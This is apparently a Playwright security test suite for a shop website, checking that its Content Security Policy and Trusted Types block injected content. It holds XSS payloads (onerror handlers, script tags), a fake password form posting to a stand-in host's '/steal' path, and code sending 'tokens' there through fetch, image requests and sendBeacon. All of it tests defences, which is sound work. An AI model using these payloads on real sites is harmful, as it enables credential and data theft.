import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright/test';
import { quietNetwork } from '#scripts/open-requests.ts';
import { expect, test } from './fixtures.ts';

test.use({ expected: [/Content Security Policy|TrustedHTML|TrustedScript|status of 404/i], expectedViolations: [/^/] });

/** The sinks through which an attacker could run injected text. */
const sinks: Record<string, (text: string) => unknown> = {
  innerHTML: (text) => {
    document.body.innerHTML = text;
  },
  outerHTML: (text) => {
    document.body.outerHTML = text;
  },
  insertAdjacentHTML: (text) => document.body.insertAdjacentHTML('beforeend', text),
  'document.write': (text) => Reflect.apply(document.write, document, [text]),
  createContextualFragment: (text) => document.createRange().createContextualFragment(text),
  DOMParser: (text) => new DOMParser().parseFromString(text, 'text/html'),
  srcdoc: (text) => {
    document.createElement('iframe').srcdoc = text;
  },
  'the text of a script': (text) => {
    document.createElement('script').text = text;
  },
  'the address of a script': () => {
    document.createElement('script').src = '/other.js';
  },
  // biome-ignore lint/security/noGlobalEval: what must not work
  eval: (text) => eval(text),
  'a timer': (text) => setTimeout(text),
  'a policy of its own': () =>
    (
      window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
    ).trustedTypes.createPolicy('default', {}),
};

for (const [name, sink] of Object.entries(sinks)) {
  test(`passing a string to ${name} throws`, async ({ page, policyViolations }) => {
    await page.goto('/about');
    const before = await page.locator('body').innerHTML();
    // Run it in a timer, because code evaluated by the debugger is exempt from the policy.
    const thrown = await page.evaluate(`new Promise((resolve) => setTimeout(() => {
      try { resolve((${sink})('<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>')); } catch (error) { resolve(error.name); }
    }))`);
    expect(['TypeError', 'EvalError']).toContain(thrown);
    expect(await page.locator('body').innerHTML()).toBe(before);
    await expect.poll(() => policyViolations.violations.length).toBeGreaterThan(0);
  });
}

/** Opens a page with markup injected after its heading. */
async function injected(page: Page, markup: string): Promise<void> {
  await page.route('/about', async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('</h1>', `</h1>${markup}`);
    await route.fulfill({ response, body });
  });
  await page.goto('/about');
  await quietNetwork(page);
}

const AWAY = 'https://elsewhere.example';

for (const [what, markup] of [
  ['a script', '<script>window.hacked = 1</script>'],
  ['a script of another host', `<script src="${AWAY}/a.js"></script>`],
  ['a handler', '<img src="/missing.png" onerror="window.hacked = 1" alt="">'],
  ['a style', '<style>h1 { display: none }</style>'],
  ['a style attribute', '<p style="position: fixed">Sign in</p>'],
  ['a style sheet of another host', `<link rel="stylesheet" href="${AWAY}/a.css">`],
  ['a picture of another host', `<img src="${AWAY}/a.png" alt="">`],
  ['a picture in the address', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="">'],
  ['a frame', `<iframe src="${AWAY}/"></iframe>`],
  ['an object', `<object data="${AWAY}/a.swf"></object>`],
  ['a base', `<base href="${AWAY}/">`],
] as const) {
  test(`${what} injected into the markup does nothing`, async ({ page, policyViolations }) => {
    // If a request reaches the other host, the response is a script that would run.
    await page.route(`${AWAY}/**`, (route) => route.fulfill({ contentType: 'text/javascript', body: 'hacked = 1' }));
    await injected(page, markup);
    await expect.poll(() => policyViolations.violations.length).toBeGreaterThan(0);
    await expect.poll(() => policyViolations.unknownOriginRequests).toEqual([]);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(await page.evaluate(() => document.baseURI)).not.toContain(AWAY);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  });
}

test('an injected form sends nothing to another host', async ({ page, policyViolations }) => {
  await injected(page, `<form action="${AWAY}/steal"><input name="password"><button>Sign in here</button></form>`);
  // A click would wait for a navigation that never happens.
  await page.evaluate(() =>
    setTimeout(() => document.querySelector<HTMLFormElement>('form[action$=steal]')?.requestSubmit()),
  );
  await expect.poll(() => policyViolations.violations.join()).toContain('form-action');
  await expect.poll(() => policyViolations.unknownOriginRequests).toEqual([]);
});

test('a compromised script of the shop cannot send data to another host', async ({ page, policyViolations }) => {
  await page.goto('/about');
  const sent = await page.evaluate(async (address) => {
    const tries = [
      fetch(address, { method: 'POST', body: 'tokens' }),
      new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: reject, src: address })),
    ];
    return (await Promise.allSettled(tries))
      .map(({ status }) => status)
      .concat(navigator.sendBeacon(address, 'tokens') ? 'fulfilled' : 'rejected');
  }, `${AWAY}/`);
  expect(sent.slice(0, 2)).toEqual(['rejected', 'rejected']);
  await expect.poll(() => policyViolations.violations.length).toBeGreaterThan(2);
  await expect.poll(() => policyViolations.unknownOriginRequests).toEqual([]);
});

test('another site cannot frame the shop', async ({ page, origins, baseURL }) => {
  // A real server: Chromium does not let a mocked response, which has no IP address, frame a page of this machine.
  const framer = createServer((_, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(`<h2>Framer</h2><iframe src="${baseURL}/about"></iframe>`);
  });
  await new Promise<void>((resolve) => framer.listen(0, 'localhost', resolve));
  const address = `http://localhost:${(framer.address() as AddressInfo).port}`;
  origins.push(address);
  await page.goto(address);
  await quietNetwork(page);
  await expect(page.getByRole('heading', { name: 'Framer' })).toBeVisible();
  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
  framer.close();
});

test('a request to a host that is not in the inventory is reported', async ({ page, policyViolations }) => {
  await page.route(`${AWAY}/`, (route) => route.fulfill({ contentType: 'text/html', body: 'Hello' }));
  await page.goto(`${AWAY}/`);
  expect(policyViolations.unknownOriginRequests).toEqual([`document ${AWAY}/`]);
});
